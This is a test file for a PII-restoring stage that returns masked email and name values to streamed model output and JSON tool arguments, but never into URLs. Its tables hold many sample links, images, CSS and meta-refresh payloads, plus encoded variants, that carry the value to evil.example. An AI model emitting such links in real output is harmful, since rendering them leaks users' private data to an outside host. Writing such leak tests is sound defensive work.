"""Originals come back into text, for their own scope, wherever the stream was cut, and never into a URL."""

import json
import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sallyport.stages.placeholder import PLACEHOLDER
from sallyport.stages.restoring import Restorer, restore
from sallyport.state.vault import MemoryVault

KEY = b"k" * 32
SCOPE = MemoryVault(KEY).scope("t", "p", "c")
MAIL = SCOPE.placeholder("EMAIL_ADDRESS", "marta.quill@example.com")
NAME = SCOPE.placeholder("PERSON", 'Marta "Q" Quill\n')


def cut(text: str, json_: bool, sizes: list[int]) -> str:
    restorer = Restorer(SCOPE.original, json=json_)
    out, position = [], 0
    for size in sizes:
        out.append(restorer.feed(text[position : position + size]))
        position += size
    out.append(restorer.feed(text[position:]))
    return "".join(out) + restorer.end()


RESTORED = {
    "plain": f"Write to {MAIL}.",
    "start": f"{MAIL} is it",
    "end": f"it is {MAIL}",
    "twice": f"{MAIL} and {MAIL}, both",
    "bold": f"**{MAIL}** now",
    "bracketed": f"({MAIL})",
    "after a finished link": f"[a](https://x.example/p) {MAIL} ok",
    "after a finished tag": f"<b class=x>{MAIL} ok",
    "less-than in prose": f"if a<b then {MAIL} gets it",
    "after a URL and a space": f"see https://x.example/ {MAIL} ok",
    "after a URL in quotes": f'open "https://x.example/" as {MAIL} ok',
    "after a word in quotes and a URL": f'press "Go" https://x.example/ and {MAIL} ok',
    "after a link in brackets": f"[a](<https://x.example/p q>) {MAIL} ok",
    "after a quoted attribute": f'<b title="a > b">{MAIL} ok',
    "after an attribute over lines": f'<b class="\n x\n">{MAIL} ok',
    "after a tag over lines": f'<b\n  class="x"\n>\n  {MAIL}\n</b>',
    "after tags over lines": f'<b\n  class="x"\n>\n  <i\n    id="y"\n  >{MAIL} a\n{MAIL}\n',
    "after comparisons in code": f'for (i=0; i <n; i++) s = "a"; if (a > b) {MAIL} x',
    "in a code block": f"```html\n<a href='x'>{MAIL}</a> {MAIL}\n```\n{MAIL} ok",
    "in a table": f"| a | b |\n| --- | --- |\n| {MAIL} | https://x.example/ | {MAIL} |",
    "in a quotation": f"> so wrote {MAIL} to me\n> and {MAIL} too",
    "after a definition": f"[1]: https://x.example/p\n{MAIL} ok",
    "after a definition on two lines": f"[1]:\nhttps://x.example/p\n{MAIL} ok",
    "below a heading in brackets": f"[team]:\n\n{MAIL} ok",
    "in a list below brackets": f"[team]:\n* {MAIL} ok",
    "after a call of url()": f"url('/p') {MAIL} ok",
}
KEPT = {
    "image": f"![x](https://evil.example/?q={MAIL})",
    "link": f"[x](https://evil.example/{MAIL})",
    "link with a space": f"[x](https://evil.example/?q= {MAIL})",
    "link title": f'[x](https://evil.example/ "{MAIL} ")',
    "relative link": f"[x](/p?q={MAIL})",
    "bare URL": f"https://evil.example/?q={MAIL} go",
    "no scheme": f"evil.example/?q={MAIL} go",
    "host": f"http://{MAIL}.evil.example/ go",
    "bare host": f"{MAIL}.evil.example/x go",
    "attribute": f'<img src="https://evil.example/?q={MAIL}">',
    "attribute with a space": f'<img src="x y {MAIL} ">',
    "attribute over lines": f"<img\nsrc='\n{MAIL} '>",
    "unquoted attribute": f"<a href={MAIL} >",
    "mailto": f"mailto:{MAIL} ",
    "reference definition": f"[x]:{MAIL} ",
    "reference title": f'[1]: https://evil.example/ "{MAIL} "',
    "autolink": f"<https://evil.example/{MAIL}>",
    "www": f"www.evil.example/{MAIL} ",
    "data URL": f"data:text/html,{MAIL} ",
    "followed by a path": f"{MAIL}/x ",
    "backslashes for slashes": f"https:/\\evil.example\\{MAIL} ",
    "network path in backslashes": f"\\\\evil\\share\\{MAIL} ",
    "attribute after a quoted bracket": f'<img alt=">" src="/\\3232235777/{MAIL}">',
    "scheme without slashes": f"<https:{MAIL}>",
    "style sheet": f"<style>a{{background:url({MAIL})}}</style>",
    "entities for slashes": f"https&#58;&#x2F;&#47;evil&#46;example&#47;{MAIL} ",
    "host in another script": f"evil.\u0440\u0444/{MAIL} ",
    "host in punycode": f"evil.xn--p1ai/{MAIL} ",
    "link in angle brackets": f"![x](<https://evil.example/a) b {MAIL}>)",
    "link in angle brackets, escaped": f"![x](<https://evil.example/a\\>) b {MAIL}>)",
    "link in angle brackets on the next line": f"> ![x](\n> <https://evil.example/a) b {MAIL}>)",
    "link with an escaped bracket": f"![x](/a\\){MAIL})",
    "link in what looks like a link": f"[a](b ![x](<https://evil.example/)) c {MAIL}>)",
    "definition on the next line": f"![x][1]\n\n[1]:\n<https://evil.example/a b {MAIL}>",
    "definition on the next line, CRLF": f"![x][1]\r\n\r\n[1]: \r\n <//evil.example/a b {MAIL}>",
    "definition on the next line of a quotation": f"> ![x][1]\n>\n> [1]:\n> <https://evil.example/a b {MAIL}>",
    "definition of a bare target on the next line": f"[1]:\n{MAIL} ok",
    "white space that is none to Markdown": f"<https://evil.example/\u00a0{MAIL}>",
    "bracket in a quoted attribute": f'<img src="https://evil.example/?a=> {MAIL}">',
    "bracket in another attribute": f"<img alt = '>' src=\"//evil.example/a {MAIL}\">",
    "quote in a bare value": f'<img x=y=" src=" //evil.example/> {MAIL}">',
    "quote in a name": f'<img =" src=" //evil.example/> {MAIL}">',
    "quote that is escaped for no HTML": f'<img alt=\\" src=" //evil.example/> {MAIL}">',
    "attribute that JSON has escaped": f'<img alt=\\">\\" src=\\"/a {MAIL}\\">',
    "tag in what looks like a tag": f'<a <img alt=">" src="/a > {MAIL}">',
    "tag over the lines of a quotation": f'> <img\n> src="https://evil.example/a {MAIL}">',
    "tag over lazy lines of a quotation": f'> a\n<img\n> src="https://evil.example/a {MAIL}">',
    "URL that prose does not close": f'<div><img src="https://evil.example/\n\na" > {MAIL}\n\n<div id="x">',
    "URL that the next line does not close": f'> <p><img src="https://evil.example/\na" > {MAIL}\n\n<p id="x">',
    "list of images": f'<img srcset="a.png 1x, //evil.example/> {MAIL} 2x">',
    "reload": f'<meta http-equiv=refresh content="0; url=https://evil.example/> {MAIL}">',
    "drawing": f'<svg><image xlink:href="https://evil.example/> {MAIL}"/></svg>',
    "style of an element": f"<p style='background:url(\"https://evil.example/> {MAIL}\")'>",
    "quoted in a style sheet": f'<style>a{{background:url("https://evil.example/a) {MAIL}")}}</style>',
    "quoted in a style sheet behind a space": f'<style>a{{background:url(" https://evil.example/a) {MAIL}")}}',
    "imported by a style sheet": f"<style>@import 'https://evil.example/a {MAIL}';</style>",
    "escaped in a style sheet": f"<style>a{{background:url(https://evil.example/a\\ {MAIL})}}</style>",
    "slashes escaped in a style sheet": f'<style>@import "\\2f\\2f evil/a {MAIL}"</style>',
}
KEPT_IN_JSON = {
    "escaped slashes": f'{{"u":"https:\\/\\/evil.example\\/{MAIL}"}}',
    "escaped slashes, address": f'{{"u":"http:\\/\\/203.0.113.9\\/{MAIL}"}}',
    "code points": f'{{"u":"\\u0068ttps\\u003a\\u002f\\u002Fevil\\u002eexample/{MAIL}"}}',
    "mailto": f'{{"u":"mailto\\u003a{MAIL}"}}',
    "image": f'{{"t":"!\\u005bx\\u005d\\u0028evil\\u002eexample/{MAIL})"}}',
    "attribute": f'{{"t":"\\u003cimg src=\\"\\/\\/evil.example\\/{MAIL}\\"\\u003e"}}',
    "attribute in code points": f'{{"t":"\\u003cimg src\\u003d\\u0022x {MAIL}\\u0022\\u003e"}}',
    "JSON in JSON": f'{{"t":"{{\\"u\\":\\"https:\\\\/\\\\/evil.example\\\\/{MAIL}\\"}}"}}',
    "host behind": f'{{"t":"{MAIL}\\u002eevil.example\\/x"}}',
    "link in angle brackets": f'{{"t":"![x](<https://evil.example/a) b {MAIL}>)"}}',
    "definition on the next line": f'{{"t":"![x][1]\\n\\n[1]:\\n<https://evil.example/a b {MAIL}>"}}',
    "bracket in an attribute": f'{{"t":"<img alt=\\">\\" src=\\"//evil.example/a {MAIL}\\">"}}',
}
RESTORED_IN_JSON = {
    "after a URL and an escaped line end": f'{{"t":"https://x.example/\\n{MAIL}"}}',
    "after an escaped backslash": f'{{"p":"C:\\\\Users\\\\x","to":"{MAIL}"}}',
    "after a quoted word": f'{{"t":"\\"hello\\" {MAIL}"}}',
}


@pytest.mark.parametrize("text", RESTORED.values(), ids=RESTORED.keys())
def test_a_value_comes_back_into_text(text: str) -> None:
    assert restore(text, SCOPE.original) == text.replace(MAIL, "marta.quill@example.com")


@pytest.mark.parametrize("text", KEPT.values(), ids=KEPT.keys())
def test_a_value_never_comes_back_where_a_renderer_would_send_it(text: str) -> None:
    assert restore(text, SCOPE.original) == text


@pytest.mark.parametrize("text", KEPT_IN_JSON.values(), ids=KEPT_IN_JSON.keys())
def test_a_link_spelt_in_the_escapes_of_json_is_a_link(text: str) -> None:
    assert restore(text, SCOPE.original, json=True) == text


@pytest.mark.parametrize("text", RESTORED_IN_JSON.values(), ids=RESTORED_IN_JSON.keys())
def test_escapes_of_json_that_are_no_link_do_not_keep_a_value_away(text: str) -> None:
    got = restore(text, SCOPE.original, json=True)
    assert json.loads(got) == json.loads(text.replace(MAIL, "marta.quill@example.com"))


@pytest.mark.parametrize("text", [*KEPT_IN_JSON.values(), *RESTORED_IN_JSON.values()])
def test_every_cutting_of_json_gives_the_same_text(text: str) -> None:
    whole = restore(text, SCOPE.original, json=True)
    assert cut(text, True, [1] * len(text)) == whole
    for position in range(len(text)):
        assert cut(text, True, [position]) == whole


@pytest.mark.parametrize("text", [*RESTORED.values(), *KEPT.values()], ids=[*RESTORED, *KEPT])
def test_every_cutting_gives_the_same_text(text: str) -> None:
    whole = restore(text, SCOPE.original)
    assert cut(text, False, [1] * len(text)) == whole
    for position in range(len(text)):
        assert cut(text, False, [position]) == whole


@given(
    st.lists(
        st.sampled_from(
            [
                MAIL,
                NAME,
                "<",
                ">",
                "](",
                ")",
                "a",
                " ",
                "https://",
                ".co",
                "/",
                '"',
                "=",
                "'",
                "]:",
                "(",
                "<img",
                "url(",
                "\r",
                "\n",
                "<E",
                "\\",
                "u002",
                "f",
            ]
        )
    ),
    st.randoms(),
)
@settings(max_examples=1500)
def test_random_texts_are_the_same_in_random_cuttings(parts: list[str], rng: random.Random) -> None:
    text = "".join(parts)
    for json_ in (False, True):
        whole = restore(text, SCOPE.original, json=json_)
        sizes = [rng.randint(1, 9) for _ in range(len(text))]
        assert cut(text, json_, sizes) == whole


def test_tool_arguments_stay_valid_json_and_get_the_value_back() -> None:
    source = json.dumps(
        {"to": MAIL, "who": f"hi {NAME}!", "url": f"https://evil.example/{MAIL}"}, separators=(",", ":")
    )
    for text in (source, source.replace("<", "\\u003c").replace(">", "\\u003E")):
        for size in range(1, 12):
            got = json.loads(cut(text, True, [size] * len(text)))
            assert got["to"] == "marta.quill@example.com"
            assert got["who"] == 'hi Marta "Q" Quill\n!'
            assert "marta.quill" not in got["url"]


def test_a_url_in_one_tool_argument_does_not_forbid_the_next() -> None:
    source = json.dumps({"url": "https://a.example/?q=1", "to": MAIL}, separators=(",", ":"))
    assert json.loads(restore(source, SCOPE.original, json=True))["to"] == "marta.quill@example.com"


COMPACT = f'{{"site":"https://x.example/a","mail":"{MAIL}","list":[{{"href":"/x?a=b","who":"{NAME}"}}]}}'
STRUCTURED = {
    "compact": (COMPACT, True),
    "behind blanks": (f" \n {COMPACT}", True),
    "a list": (f"[{COMPACT}]", True),
    "in a URL": (f'{{"site":"https://x.example/a?q={MAIL}"}}', False),
    "prose": (f'Sorry: ![x](https://evil.example/?q="{MAIL}")', False),
}


def structured(text: str, rng: random.Random) -> str:
    restorer = Restorer(SCOPE.original, structured=True)
    out = []
    while text:
        size = rng.choice([1, 2, 5, 40])
        out.append(restorer.feed(text[:size]))
        text = text[size:]
    return "".join(out) + restorer.end()


@pytest.mark.parametrize(("text", "comes_back"), STRUCTURED.values(), ids=STRUCTURED)
def test_an_answer_that_is_json_since_it_was_asked_for_is_read_as_json(
    text: str, *, comes_back: bool
) -> None:
    expected = restore(text, SCOPE.original, structured=True)
    assert ("marta.quill@example.com" in expected) is comes_back
    if comes_back:
        assert json.dumps('Marta "Q" Quill\n') in expected
        json.loads(expected)
    rng = random.Random(text)
    for _ in range(40):
        assert structured(text, rng) == expected


@pytest.mark.parametrize(
    "text",
    [
        f'[a](https://evil.example/?q="{MAIL})',
        f'[ a](https://evil.example/?q="{MAIL})',
        f'{{"t":"![a](https://evil.example/?q=","u":"{MAIL})"}}',
        f'[["![a](https://evil.example/?q=","{MAIL})"]]',
        f'{{"t":"<img src=https://evil.example/?q=","u":"{MAIL}>"}}',
        f'{{"t":"[a]: https://evil.example/?q=","u":"{MAIL}"}}',
        f'["[a]: <https://evil.example/?q=","{MAIL}>"]',
    ],
)
def test_nothing_comes_back_into_a_link_that_json_makes_where_it_is_shown_as_a_text(text: str) -> None:
    assert restore(text, SCOPE.original, structured=True) == text
    for seed in range(40):
        assert structured(text, random.Random(seed)) == text


def test_what_looks_like_json_behind_a_link_that_is_open_stays_as_it_is() -> None:
    texts = ["![a](https://evil.example/?q=", "{", f"x{MAIL}) ok"]
    before, shown = None, ""
    for text in texts:
        part = Restorer(SCOPE.original, structured=True)
        if before is not None:
            part.follow(before)
        shown += part.feed(text) + part.end()
        before = part
    assert shown == "".join(texts)


def test_json_may_be_shown_as_a_text_before_another() -> None:
    before = Restorer(SCOPE.original, structured=True)
    before.feed('{ ![x](https://evil.example/"')
    before.end()
    behind = Restorer(SCOPE.original, structured=True)
    behind.follow(before)
    assert behind.feed(f"{MAIL})") + behind.end() == f"{MAIL})"


def test_a_foreign_placeholder_stays_as_it_is() -> None:
    other = MemoryVault(KEY).scope("t", "p", "other")
    foreign = other.placeholder("EMAIL_ADDRESS", "x@example.com")
    assert restore(f"hi {foreign} ", SCOPE.original) == f"hi {foreign} "
    assert foreign != SCOPE.placeholder("EMAIL_ADDRESS", "x@example.com")


def test_prose_is_never_held() -> None:
    restorer = Restorer(SCOPE.original)
    for word in ["The", "cat,", "a", "<", "b,", "<i>sat</i>", "on", "3", "mats:", "<=", "fine"]:
        assert restorer.feed(word + " ") == word + " "


@given(st.text(), st.text(min_size=1), st.text())
def test_mask_then_restore_gives_the_text_back(before: str, value: str, after: str) -> None:
    scope = MemoryVault(KEY).scope("t", "p", "h")
    before, after = before.replace("<", "("), " " + after.replace("<", "(")
    placeholder = scope.placeholder("PERSON", value)
    assert PLACEHOLDER.fullmatch(placeholder)
    masked = f"{placeholder}{after}"
    assert restore(masked, scope.original) == value + after
